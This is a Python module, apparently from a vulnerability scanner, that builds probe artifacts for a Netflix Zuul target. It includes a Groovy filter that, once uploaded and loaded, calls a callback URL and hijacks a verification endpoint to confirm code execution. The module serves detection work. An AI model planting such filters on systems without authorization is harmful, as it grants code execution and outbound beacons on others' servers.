# SPDX-FileCopyrightText: 2025 Theori Inc.
# SPDX-License-Identifier: AGPL-3.0-or-later

"""Upload artifacts used by the passive and active probes."""

from __future__ import annotations

from ..constants import CALLBACK_PLACEHOLDER, CONFIRMATION_BODY, EMPTY_FILENAME, VCHECK_ENDPOINT, VCHECK_FILENAME
from ..models.artifact import ProbeArtifact

# Zuul "pre" filter. Loading the class fires a GET at the callback URL; once the filter is
# active it short-circuits requests to the verification endpoint with a fixed body.
VULNCHECK_FILTER_SOURCE = (
    """\
import com.netflix.zuul.ZuulFilter
import com.netflix.zuul.context.RequestContext

class Vulncheck extends ZuulFilter {
    static {
        try {
            new URL("%(callback)s").getText(connectTimeout: 5000, readTimeout: 5000)
        } catch (Throwable ignored) {
        }
    }

    @Override
    String filterType() {
        return "pre"
    }

    @Override
    int filterOrder() {
        return 0
    }

    boolean shouldFilter() {
        return RequestContext.currentContext.getRequest().getRequestURI() == "%(endpoint)s"
    }

    Object run() {
        RequestContext ctx = RequestContext.currentContext
        ctx.setSendZuulResponse(false)
        ctx.setResponseStatusCode(200)
        ctx.setResponseBody("%(body)s")
        return null
    }
}
"""
    % {"callback": CALLBACK_PLACEHOLDER, "endpoint": VCHECK_ENDPOINT, "body": CONFIRMATION_BODY}
)


def build_vulncheck_artifact(callback: str) -> ProbeArtifact:
    """Render the probe filter with the caller's callback URL substituted in."""
    source = VULNCHECK_FILTER_SOURCE.replace(CALLBACK_PLACEHOLDER, callback or "")
    return ProbeArtifact.from_text(VCHECK_FILENAME, source)


def build_empty_artifact() -> ProbeArtifact:
    """Zero-length artifact with an innocuous name, for the passive probe."""
    return ProbeArtifact(filename=EMPTY_FILENAME, content=b"")


__all__ = ["VULNCHECK_FILTER_SOURCE", "build_empty_artifact", "build_vulncheck_artifact"]
